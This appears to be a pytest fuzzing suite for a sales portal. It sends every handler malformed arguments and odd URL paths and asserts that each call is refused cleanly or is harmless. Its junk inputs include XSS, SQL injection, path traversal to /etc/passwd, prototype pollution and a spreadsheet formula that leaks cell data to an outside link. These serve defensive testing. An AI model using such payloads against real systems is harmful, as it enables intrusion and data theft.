"""Every handler × arguments that no page of ours would send, from the person whose handler it is.

Anybody can send any event with any arguments in any order. Allowed answers: a refusal in words, or success.
"""

import inspect
from typing import Any

import pytest

from salestrekker_portal.kernel.errors import DomainError
from tests.refusals.case import Case, filled
from tests.refusals.handlers import Tab, handlers_by_key
from tests.refusals.place import Place
from tests.refusals.snapshot import rows_of
from tests.refusals.table import CASES, OPEN
from tests.support.harness import Harness

pytestmark = pytest.mark.slow

SOMEBODY_ELSE = "0190b7a2-7c11-7000-8000-00000000dead"
# What tends to break a parser; the rest of JUNK tends to slip through one.
HARD: tuple[Any, ...] = (None, [], {}, 10**30, float("nan"), "x" * 10_000, "\x00\ud800", "9" * 400, [[{"id": None}]])
JUNK: tuple[Any, ...] = (
    *HARD,
    "",
    "0",
    -1,
    True,
    "²",
    "<script>alert(1)</script>",
    """=HYPERLINK("https://example.com/?"&A1,"x")\t+1|' /C x'!A0,@SUM(1)""",
    "../../etc/passwd",
    "' OR 1=1 --",
    "{deal}",
    SOMEBODY_ELSE,
    {"__proto__": {"x": 1}, "": [], "label-": "on", "label_x": True},
)
# Such as a person might have typed: none of it may stand in the log.
TYPED = ("x" * 200, "9" * 200, "\ud800")
PATHS = (
    "/",
    "/deals/0/../..",
    "/deals/{deal}/{deal}/{deal}",
    "/partner/deals/%00",
    "/portal/profile/x?of=1&open=%F0%9F",
    "/portal/profile/applicant?of=" + SOMEBODY_ELSE,
    "/board?page=²&view=list&workflow=\ud800",
    "/contacts?q=%ED%A0%80%00&page=" + "9" * 400,
)
TRIED = (*CASES, *(Case(handler=key, control="quiet") for key in OPEN))


def _arguments(case: Case) -> list[str]:
    return list(inspect.signature(handlers_by_key()[case.handler].fn).parameters)[1:]


def right_payload(case: Case, ids: dict[str, str]) -> dict[str, Any]:
    """What the page would send."""
    return dict.fromkeys(_arguments(case), "") | filled(case.payload, ids)


def payloads_of(case: Case, ids: dict[str, str]) -> list[dict[str, Any]]:
    """One thing wrong at a time: each argument, then each field of a form. Then everything at once."""
    right = right_payload(case, ids)
    wrong = [{**right, name: junk} for name in _arguments(case) for junk in JUNK]
    for name, value in right.items():
        if isinstance(value, dict):
            wrong += [{**right, name: {**value, field: junk}} for field in value for junk in HARD]
    return wrong + [dict.fromkeys(right, junk) for junk in JUNK if len(right) > 1]


@pytest.mark.parametrize("case", TRIED, ids=lambda case: case.handler)
async def test_garbage_is_refused_or_harmless(place: Place, case: Case, caplog):
    async with Harness() as browser:
        # Out of order: on a tab that has not loaded any page. Then as the page would.
        cold = Tab(browser, case, place, case.rightful, tab="cold")
        right = right_payload(case, place.ids)
        for payload in [right, *payloads_of(case, place.ids)[:3]]:
            await _harmless(cold, payload)
        warm = Tab(browser, case, place, case.rightful)
        for payload in payloads_of(case, place.ids):
            await warm.prepare()
            await _harmless(warm, payload)
        for path in PATHS:
            await _harmless(Tab(browser, case, place, case.rightful, tab=path, path=path), right)
    assert "\\x00" not in await rows_of(place), "PostgreSQL keeps no text with a NUL in it"
    assert not any(typed in caplog.text for typed in TYPED), "what was typed stands in the log"


async def _harmless(tab: Tab, payload: dict[str, Any]) -> None:
    await tab.call(tab.case.handler, payload, strictly=False)
    bugs = [error for error in tab.browser.errors if not isinstance(error, DomainError)]
    said = f"{tab.case.handler} of {repr(payload)[:300]} at {tab.seat['path']}"
    if bugs:
        raise AssertionError(said) from bugs[0]
    sent = repr(tab.browser.out)
    assert "Traceback" not in sent and "sqlalchemy" not in sent, said
